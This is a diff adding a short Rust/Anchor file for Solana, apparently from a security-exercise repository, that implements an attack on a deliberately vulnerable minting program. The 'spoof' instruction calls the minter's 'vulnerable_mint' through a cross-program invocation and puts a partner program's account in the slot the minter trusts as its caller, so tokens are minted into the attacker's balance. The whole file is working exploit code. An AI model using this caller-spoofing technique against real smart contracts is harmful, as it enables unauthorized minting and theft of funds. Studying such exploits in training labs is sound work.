@@ -0,0 +1,45 @@
+//! The attack on partner-mint's vulnerable mint
+
+#[cfg(not(feature = "vulnerable"))]
+compile_error!("vulnerable instructions are only built with the `vulnerable` feature");
+
+use partner_mint::program::PartnerMint;
+use partner_mint::state::{Balance, Config};
+use solsec_prelude::*;
+
+#[derive(Accounts)]
+pub struct SpoofPartner<'info> {
+    pub attacker: Signer<'info>,
+
+    #[account(mut)]
+    pub config: Account<'info, Config>,
+
+    #[account(mut, constraint = balance.owner == attacker.key())]
+    pub balance: Account<'info, Balance>,
+
+    /// CHECK: The partner's program account, read off the minter's config
+    #[account(address = config.partner_program)]
+    pub partner_program: UncheckedAccount<'info>,
+
+    /// CHECK: The minter's cluster record, read by its `check_cluster`
+    #[account(seeds = [b"cluster"], bump, seeds::program = partner_mint::ID)]
+    pub cluster: UncheckedAccount<'info>,
+
+    pub minter_program: Program<'info, PartnerMint>,
+}
+
+impl<'info> SpoofPartner<'info> {
+    pub fn spoof(&mut self, amount: u64) -> Result<()> {
+        // The partner's account, in the slot the minter reads its caller from
+        let cpi_context = CpiContext::new(
+            self.minter_program.to_account_info(),
+            partner_mint::cpi::accounts::VulnerableMint {
+                config: self.config.to_account_info(),
+                caller_program: self.partner_program.to_account_info(),
+                balance: self.balance.to_account_info(),
+                cluster: self.cluster.to_account_info(),
+            },
+        );
+        partner_mint::cpi::vulnerable_mint(cpi_context, amount)
+    }
+}